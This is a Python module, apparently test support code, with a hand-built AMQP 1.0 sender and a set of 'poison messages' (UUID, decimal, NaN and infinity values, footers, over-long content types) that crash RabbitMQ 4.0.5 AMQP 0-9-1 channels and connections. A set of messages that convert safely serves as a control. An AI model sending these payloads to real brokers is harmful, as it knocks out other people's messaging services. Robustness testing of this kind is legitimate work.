"""An AMQP 1.0 sender for attackers' messages; RabbitMQ 4 speaks AMQP 1.0 on the port of 0-9-1.

A message can have parts that AMQP 0-9-1 cannot express. RabbitMQ 4.0.5 fails to convert some of
them: a 0-9-1 channel that is to deliver such a *poison message* crashes, and its whole connection
with it. `POISONS` has poison messages; `HARMLESS` has similar ones that RabbitMQ converts.

All values are given encoded (AMQP 1.0, part 1), so that they can be of any type, or malformed.
"""

from __future__ import annotations

import asyncio
import math
import struct
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any, Final
from urllib.parse import unquote, urlsplit

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Callable, Mapping

_HEADER: Final = b"AMQP\x00\x01\x00\x00"
_SASL_HEADER: Final = b"AMQP\x03\x01\x00\x00"
_AMQP, _SASL = 0, 1
_MECHANISMS, _INIT, _OUTCOME = 0x40, 0x41, 0x44
_OPEN, _BEGIN, _ATTACH, _FLOW, _TRANSFER, _DISPOSITION = 0x10, 0x11, 0x12, 0x13, 0x14, 0x15
_ENDS: Final = (0x16, 0x17, 0x18)  # detach, end, close
_ACCEPTED: Final = 0x24
_SOURCE, _TARGET = 0x28, 0x29
_MESSAGE_HEADER, _ANNOTATIONS, _PROPERTIES, _APPLICATION, _DATA, _FOOTER = (
    0x70,
    0x72,
    0x73,
    0x74,
    0x75,
    0x78,
)
_PROPERTY_NAMES: Final = (
    "message_id",
    "user_id",
    "to",
    "subject",
    "reply_to",
    "correlation_id",
    "content_type",
    "content_encoding",
)
_TIMEOUT_S: Final = 30.0

NULL: Final = b"\x40"
UUID: Final = b"\x98" + bytes(range(16))
CHAR: Final = b"\x73" + struct.pack(">I", ord("ä"))
DECIMAL32: Final = b"\x74" + bytes(4)
DECIMAL64: Final = b"\x84" + bytes(8)
DECIMAL128: Final = b"\x94" + bytes(16)


def string(text: str) -> bytes:
    """Encode a string."""
    return _sized(b"\xa1", b"\xb1", text.encode())


def symbol(text: str) -> bytes:
    """Encode a symbol."""
    return _sized(b"\xa3", b"\xb3", text.encode())


def float32(number: float) -> bytes:
    """Encode a float of 32 bits."""
    return b"\x72" + struct.pack(">f", number)


def float64(number: float) -> bytes:
    """Encode a float of 64 bits."""
    return b"\x82" + struct.pack(">d", number)


@dataclass(frozen=True)
class Parts:
    """A message without its body; all values are encoded.

    Attributes:
        application: Application properties, which become headers in 0-9-1.
        properties: `reply_to`, `content_type` and others.
        annotations: Message annotations.
        footer: The footer.
    """

    application: Mapping[str, bytes] = field(default_factory=dict)
    properties: Mapping[str, bytes] = field(default_factory=dict)
    annotations: Mapping[str, bytes] = field(default_factory=dict)
    footer: Mapping[str, bytes] = field(default_factory=dict)

    def encode(self, body: bytes) -> bytes:
        """The message with this body."""
        properties = [self.properties.get(name, NULL) for name in _PROPERTY_NAMES]
        sections = [
            _described(_MESSAGE_HEADER, _list(b"\x41")),  # durable
            _described(_ANNOTATIONS, _map(self.annotations, symbol)),
            _described(_PROPERTIES, _list(*properties)),
            _described(_APPLICATION, _map(self.application, string)),
            _described(_DATA, _sized(b"\xa0", b"\xb0", body)),
        ]
        if self.footer:
            sections.append(_described(_FOOTER, _map(self.footer, symbol)))
        return b"".join(sections)


def _sized(short: bytes, long: bytes, value: bytes) -> bytes:
    if len(value) < 256:
        return short + bytes([len(value)]) + value
    return long + struct.pack(">I", len(value)) + value


def _list(*values: bytes) -> bytes:
    body = b"".join(values)
    return b"\xd0" + struct.pack(">II", len(body) + 4, len(values)) + body


def _map(entries: Mapping[str, bytes], key: Callable[[str], bytes]) -> bytes:
    body = b"".join(key(name) + value for name, value in entries.items())
    return b"\xd1" + struct.pack(">II", len(body) + 4, 2 * len(entries)) + body


def _uint(number: int) -> bytes:
    return b"\x70" + struct.pack(">I", number)


def _described(code: int, value: bytes) -> bytes:
    return b"\x00\x53" + bytes([code]) + value


def _decode(data: bytes, at: int = 0) -> tuple[Any, int]:
    """A value and where it ends. A described value is a pair; numbers stay bytes."""
    code, at = data[at], at + 1
    if code == 0:
        descriptor, at = _decode(data, at)
        value, at = _decode(data, at)
        return (descriptor[-1], value), at
    width = code >> 4
    if width < 0xA:
        size = {0x4: 0, 0x5: 1, 0x6: 2, 0x7: 4, 0x8: 8, 0x9: 16}[width]
        return data[at : at + size], at + size
    wide = 4 if width & 1 else 1
    size, at = int.from_bytes(data[at : at + wide]), at + wide
    if width < 0xC:
        return data[at : at + size], at + size
    end, items = at + size, list[Any]()
    at += wide
    while at < end and code in (0xC0, 0xD0):
        item, at = _decode(data, at)
        items.append(item)
    return items, end


class AMQP1Error(Exception):
    """The broker refused what was sent."""


class Sender:
    """One link to an address of the broker; from `open_sender`."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader = reader
        self._writer = writer
        self._sent = 0

    async def send(self, body: bytes, parts: Parts = Parts()) -> None:
        """Send a message, and wait until the broker has accepted it.

        Raises:
            AMQP1Error: the broker refused it.
        """
        delivery = _uint(self._sent)
        fields = (_uint(0), delivery, b"\xa0\x04" + struct.pack(">I", self._sent), _uint(0))
        self._sent += 1
        self._write(_TRANSFER, *fields, payload=parts.encode(body))
        settled = await self._read(_DISPOSITION)
        if settled[4][0] != _ACCEPTED:
            raise AMQP1Error(f"not accepted: {settled}")

    async def _handshake(self, header: bytes) -> None:
        self._writer.write(header)
        if (answer := await self._reader.readexactly(8)) != header:
            raise AMQP1Error(f"answered {answer!r}")

    async def _open(self, user: str, password: str, vhost: str, address: str) -> None:
        await self._handshake(_SASL_HEADER)
        await self._read(_MECHANISMS)
        credentials = f"\0{user}\0{password}".encode()
        initial = _sized(b"\xa0", b"\xb0", credentials)
        self._write(_INIT, symbol("PLAIN"), initial, kind=_SASL)
        outcome = await self._read(_OUTCOME)
        if outcome[0] not in (b"", b"\0"):
            raise AMQP1Error(f"not authenticated: {outcome}")
        await self._handshake(_HEADER)
        self._write(_OPEN, string("attacker"), string(f"vhost:{vhost}"))
        await self._read(_OPEN)
        self._write(_BEGIN, NULL, _uint(0), _uint(1000), _uint(1000))
        await self._read(_BEGIN)
        source = _described(_SOURCE, _list())
        target = _described(_TARGET, _list(string(address)))
        modes = (b"\x50\x00", NULL)  # unsettled
        self._write(
            _ATTACH,
            string("sender"),
            _uint(0),
            b"\x42",
            *modes,
            source,
            target,
            NULL,
            NULL,
            _uint(0),
        )
        await self._read(_FLOW)  # credit

    def _write(self, code: int, *fields: bytes, kind: int = _AMQP, payload: bytes = b"") -> None:
        body = _described(code, _list(*fields)) + payload
        self._writer.write(struct.pack(">IBBH", len(body) + 8, 2, kind, 0) + body)

    async def _read(self, code: int) -> list[Any]:
        """The fields of the next performative of this kind.

        Raises:
            AMQP1Error: the broker ended the link, the session or the connection instead.
        """
        async with asyncio.timeout(_TIMEOUT_S):
            while True:
                size, offset = struct.unpack(">IB3x", await self._reader.readexactly(8))
                body = (await self._reader.readexactly(size - 8))[4 * offset - 8 :]
                if not body:
                    continue
                (found, fields), _ = _decode(body)
                if found == code:
                    return fields  # type: ignore[no-any-return]
                if found in _ENDS:
                    raise AMQP1Error(f"ended: {fields}")


@asynccontextmanager
async def open_sender(url: str, address: str) -> AsyncIterator[Sender]:
    """A link to an address of RabbitMQ 4: `/queues/NAME` or `/exchanges/NAME/ROUTING-KEY`.

    Args:
        url: The URL of a vhost for AMQP 0-9-1: host, port and user are the same.
        address: The target.

    Raises:
        AMQP1Error: the broker refused the user or the address.
    """
    parts = urlsplit(url)
    reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
    try:
        sender = Sender(reader, writer)
        vhost = unquote(parts.path[1:])
        user, password = unquote(parts.username or ""), unquote(parts.password or "")
        await sender._open(user, password, vhost, address)
        yield sender
    finally:
        writer.close()


POISONS: Final[dict[str, Parts]] = {
    "uuid": Parts({"x": UUID}),
    "char": Parts({"x": CHAR}),
    "decimal32": Parts({"x": DECIMAL32}),
    "decimal64": Parts({"x": DECIMAL64}),
    "decimal128": Parts({"x": DECIMAL128}),
    "float-nan": Parts({"x": float32(math.nan)}),
    "float-infinity": Parts({"x": float32(math.inf)}),
    "double-nan": Parts({"x": float64(math.nan)}),
    "double-infinity": Parts({"x": float64(math.inf)}),
    "footer": Parts(footer={"x": string("y")}),
    "content-type": Parts(properties={"content_type": symbol("x" * 256)}),
    "content-encoding": Parts(properties={"content_encoding": symbol("x" * 256)}),
    "map": Parts({"x": b"\xc1\x03\x02\x43\x43"}),
    "described": Parts({"x": b"\x00\x53\x77\x43"}),
    "annotation": Parts(annotations={"x-y": UUID}),
}
"""Messages that RabbitMQ 4.0.5 cannot deliver to an AMQP 0-9-1 client."""

HARMLESS: Final[dict[str, Parts]] = {
    "float": Parts({"x": float32(1.5)}),
    "null": Parts({"x": NULL}),
    "symbol": Parts({"x": symbol("y")}),
    "binary": Parts({"x": b"\xa0\x01\xff"}),
    "string-not-utf8": Parts({"x": b"\xa1\x01\xff"}),
    "timestamp": Parts({"x": b"\x83" + b"\xff" * 8}),
    "ulong": Parts({"x": b"\x80" + b"\xff" * 8}),
    "name": Parts({"x" * 256: string("y")}),
    "message-id": Parts(properties={"message_id": string("x" * 256)}),
    "reply-to": Parts(properties={"reply_to": string("amq.rabbitmq.reply-to")}),
    "reply-to-long": Parts(properties={"reply_to": string("x" * 256)}),
}
"""Messages that RabbitMQ converts, in one way or another."""
